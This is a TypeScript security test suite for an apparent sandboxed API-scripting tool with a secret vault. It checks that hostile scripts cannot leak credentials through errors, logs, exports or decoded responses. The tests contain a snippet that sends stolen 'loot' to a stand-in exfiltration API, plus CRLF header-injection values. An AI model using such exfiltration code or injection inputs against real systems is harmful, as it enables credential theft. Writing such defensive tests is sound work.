/**
 * A hostile program gets no secret (issue #10, classes 1-3), and what it says
 * is redacted wherever it is kept or shown. Each test is an attack; after it,
 * every surface (envelope, MCP, store records, JSON and HAR exports, CLI,
 * host log, the exfiltration API) is searched for every secret in every form.
 */
import { main } from "../../cli.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startRecordingServer } from "../test-support/recording-server.ts";
import { assertNoSecret, CANARY, CANARY_REF, openAttackBench, type AttackBench } from "./harness.ts";

let bench: AttackBench;
beforeAll(async () => {
  bench = await openAttackBench(main);
});
afterAll(async () => bench.close());

/**
 * Sends everything the program learnt to the exfiltration API, logs it and returns it. References are
 * defused first (a reference sent to y would be refused: VaultDenied), so what was learnt really goes out.
 */
const EXFILTRATE = `
  const loot = JSON.stringify(leaks).replace(/\u27e6/g, "[[");
  await apis.y.collectPath({ v: "loot", q: loot.slice(0, 1500) });
  console.log("loot", loot);
  return leaks;`;

function exfilText(): string {
  return JSON.stringify(bench.exfil.requests.map((r) => [r.url, r.text]));
}

describe("class 1: host error text never carries a secret", () => {
  it("a cookie or header the program shapes cannot make fetch quote the credential cookie", async () => {
    // Validation refuses undeclared cookies first; with validation off, the request builder still refuses them.
    bench.configure("x", { validate: "off" });
    const before = bench.victim.requests.length;
    const envelope = await bench.run(
      `async () => {
        const leaks = [];
        const tries = [
          { cookies: { "x\\n": "1" } }, { cookies: { "a;b": "1" } }, { cookies: { "": "1" } }, { cookies: { sess: "mine" } },
          { headers: { "x-free": "a\\nb" } }, { headers: { "x-free": "a\\r\\nInjected: 1" } }, { headers: { "x-free": "\\u4e2d" } }, { headers: { "x\\nfree": "1" } },
        ];
        for (const t of tries) {
          try { await apis.x.request({ method: "GET", path: "/echo", ...t }); leaks.push("sent"); }
          catch (e) { leaks.push([e.name, e.message, e.details ?? null, String(e.stack)]); }
        }
        ${EXFILTRATE}
      }`,
      { policy: "read_only" },
    );
    expect(envelope.status).toBe("completed");
    const results = envelope.result as string[][];
    // Every shaped name or value is refused before anything is sent, in words of ours.
    for (const r of results) expect(r[0]).toBe("CallRejected");
    const messages = results.map((r) => r[1]).join("\n");
    expect(messages).toMatch(/cookie name "x\\n" is not an HTTP token/);
    expect(messages).toMatch(/cookie "sess" is reserved/);
    expect(messages).toMatch(/the value of header "x-free" holds a line break, a control character or a character outside Latin-1/);
    expect(bench.victim.requests.length).toBe(before);
    assertNoSecret(await bench.exposure(envelope.run));
    bench.configure("x", { validate: "strict" });
    const strict = await bench.run(`async () => { try { await apis.x.request({ method: "GET", path: "/echo", cookies: { "x\\n": "1" } }); } catch (e) { return e.message; } }`, { policy: "read_only" });
    expect(strict.result).toMatch(/cookie parameter "x\n" is not declared by echo/);
    assertNoSecret(await bench.exposure(strict.run));
  });

  it("a vault value with a line break (a careless paste) is refused by name, never quoted", async () => {
    // A cookie's value is percent-encoded, so the line break would travel as %0A; a bearer token goes as it is.
    bench.workbench.vault.set("paste", "token", `${CANARY}\n`, { allowApis: ["x"] });
    bench.configure("x", { auth: { inline: { type: "http", scheme: "bearer" }, credential: "vault:paste/token" } });
    try {
      const envelope = await bench.run(`async () => { const leaks = []; try { await apis.x.getThing({ id: "1" }); } catch (e) { leaks.push(e.message, String(e.stack)); } ${EXFILTRATE} }`);
      expect(JSON.stringify(envelope.result)).toMatch(/the value of header \\"authorization\\" holds a line break/);
      assertNoSecret(await bench.exposure(envelope.run));
    } finally {
      bench.configure("x", { auth: { scheme: "sess", credential: "vault:x/sess" } });
    }
  });

  it("an unreachable host, after a vault reference went into its path, is named as the program wrote it", async () => {
    const closed = await startRecordingServer();
    await closed.close();
    bench.registerApi("z", { openapi: "3.0.3", info: { title: "Z", version: "1" }, paths: { "/things/{id}": { get: { operationId: "getThing", parameters: [{ name: "id", in: "path", required: true, schema: { type: "string" } }], responses: { "200": { description: "ok" } } } } } }, { baseUrl: closed.url });
    bench.workbench.vault.set("z", "token", CANARY_REF, { allowApis: ["z"] });
    const envelope = await bench.run(`async () => {
      const leaks = [];
      for (const id of [vault.z.token, "a-" + vault.z.token + "-b"]) {
        try { await apis.z.getThing({ id }); } catch (e) { leaks.push([e.name, e.message, e.details, String(e.stack)]); }
        try { await apis.z.request({ method: "GET", path: "/things/" + id }); } catch (e) { leaks.push([e.name, e.message, e.details]); }
      }
      ${EXFILTRATE}
    }`);
    const text = JSON.stringify(envelope.result);
    expect(text).toMatch(/could not reach http:\/\/127\.0\.0\.1:\d+\/things\/⟦vault:z\/token⟧: ECONNREFUSED/);
    expect(text).toContain('"reason":"unreachable"');
    assertNoSecret(await bench.exposure(envelope.run));
  });

  it("a timeout after a vault reference went into the path names the reference, not the value", async () => {
    const envelope = await bench.run(`async () => {
      const leaks = [];
      try { await apis.x.hang({ id: vault.x.token }); } catch (e) { leaks.push([e.name, e.message, e.details]); }
      ${EXFILTRATE}
    }`);
    const text = JSON.stringify(envelope.result);
    expect(text).toMatch(/no answer from http:\/\/127\.0\.0\.1:\d+\/api\/hang\/⟦vault:x\/token⟧ within 1000 ms/);
    expect(text).toContain('"reason":"timeout"');
    assertNoSecret(await bench.exposure(envelope.run));
  });
});

describe("class 2: whatever the program says passes the redactor", () => {
  it("a secret the program assembled is hidden in its logs, result, error, call arguments and call errors", async () => {
    const envelope = await bench.run(`async () => {
      const { body } = await apis.x.request({ method: "GET", path: "/echo", query: { mode: "split" } });
      const secret = body.a + body.b;           // the upstream split it; no redactor could see it whole
      console.log("got", secret, { nested: [secret] });
      await apis.y.collect({ body: { secret } }); // a transform is the documented limit: this does reach y
      try { await apis.x.request({ method: "GET", path: "/" + secret }); } catch (e) { console.log(e.message); }
      try { await apis.x.getThing({ id: secret, nope: secret }); } catch (e) { console.log(e.message); }
      if (body.a) throw new Error("failing with " + secret + " " + JSON.stringify({ secret }));
    }`);
    expect(envelope.status).toBe("failed");
    expect(envelope.error?.message).toContain("⟦hidden:x/sess⟧");
    expect(envelope.logs.join("\n")).toContain("⟦hidden:x/sess⟧");
    // The premise: the upstream transformed the secret, so the exfiltration API did receive it (docs/security.md).
    expect(exfilText()).toContain(CANARY);
    const surfaces = await bench.exposure(envelope.run);
    assertNoSecret(surfaces.slice(0, -1)); // all but what the exfiltration API received
    bench.exfil.requests.length = 0;
  });

  it("a result that is the secret, and one nested in keys, are hidden in the envelope and the store", async () => {
    const envelope = await bench.run(`async () => {
      const { body } = await apis.x.request({ method: "GET", path: "/echo", query: { mode: "split" } });
      const s = body.a + body.b;
      return { [s]: s, list: [s, s.toLowerCase() === s ? 1 : 0], text: "Bearer " + s };
    }`);
    expect(JSON.stringify(envelope.result)).toContain("⟦hidden:x/sess⟧");
    assertNoSecret((await bench.exposure(envelope.run)).slice(0, -1));
  });
});

describe("class 3: redaction after decoding", () => {
  it("a JSON response that spells the credential with \\u escapes, also in keys and in JSON-in-JSON, reaches the program hidden", async () => {
    const envelope = await bench.run(`async () => {
      const { body } = await apis.x.request({ method: "GET", path: "/echo", query: { mode: "escaped" } });
      const leaks = [body.cookie, JSON.parse(body.nested).cookie, Object.keys(body)];
      ${EXFILTRATE}
    }`);
    expect(envelope.status).toBe("completed");
    const [top, nested, keys] = envelope.result as [string, string, string[]];
    expect(top).toBe("sess=⟦hidden:x/sess⟧");
    expect(nested).toBe("sess=⟦hidden:x/sess⟧");
    expect(keys).toContain("sess=⟦hidden:x/sess⟧");
    assertNoSecret(await bench.exposure(envelope.run));
  });

  it("response headers the upstream echoes the cookie in are hidden in the record", async () => {
    const envelope = await bench.run(`async () => (await apis.x.echo({ q: "1" })).body.cookie`);
    expect(envelope.result).toBe("sess=⟦hidden:x/sess⟧");
    const call = bench.workbench.store.getCalls(envelope.run)[0]!;
    expect(call.response?.headers["x-echo-cookie"]).toBe("sess=⟦hidden:x/sess⟧");
    expect(call.request?.headers.cookie).toBe("sess=⟦hidden:x/sess⟧");
    assertNoSecret(await bench.exposure(envelope.run));
  });
});
